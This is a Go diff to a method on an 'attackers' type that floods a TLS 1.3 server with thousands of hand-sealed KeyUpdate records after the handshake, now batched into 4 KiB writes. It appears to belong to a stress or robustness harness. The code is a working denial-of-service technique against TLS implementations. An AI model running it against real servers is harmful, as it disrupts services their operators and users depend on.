@@ -13,7 +13,6 @@ import (
 	"crypto/tls"
 	"encoding/binary"
 	"encoding/hex"
-	"errors"
 	"net"
 	"strings"
 )
@@ -89,9 +88,7 @@ func expandLabel(secret []byte, label string, n int) []byte {
 	return out
 }
 
-var errOtherSuite = errors.New("another cipher suite")
-
-// keyUpdates asks for thousands of them, reads none, and has a byte between them, so that they are no useless records.
+// keyUpdates authenticates, and then asks for thousands of them, reads none, and has a byte between them, so that they are no useless records.
 func (a *attackers) keyUpdates(ctx context.Context) error {
 	nc, done, err := a.dial(ctx)
 	if err != nil {
@@ -103,19 +100,24 @@ func (a *attackers) keyUpdates(ctx context.Context) error {
 	if err := tc.Handshake(); err != nil {
 		return err
 	}
-	if tc.ConnectionState().CipherSuite != tls.TLS_AES_128_GCM_SHA256 {
-		return errOtherSuite
+	if suite := tc.ConnectionState().CipherSuite; suite != tls.TLS_AES_128_GCM_SHA256 {
+		panic("no sealer for " + tls.CipherSuiteName(suite))
 	}
 	out := sealer13{secret: logged(keys.String(), "CLIENT_TRAFFIC_SECRET_0")}
 	const requested = "\x18\x00\x00\x01\x01"
 	packet := framed(1, 4000, 'K')
+	records := out.seal(23, string(framed(1, 16, 'F')))
 	for i := range packet {
-		record := out.seal(22, requested)
+		records = append(records, out.seal(22, requested)...)
 		out.update()
-		record = append(record, out.seal(23, string(packet[i:i+1]))...)
-		if _, err := nc.Write(record); err != nil {
+		records = append(records, out.seal(23, string(packet[i:i+1]))...)
+		if len(records) < 4<<10 {
+			continue
+		}
+		if _, err := nc.Write(records); err != nil {
 			return nil
 		}
+		records = records[:0]
 	}
 	waits(nc)
 	return nil
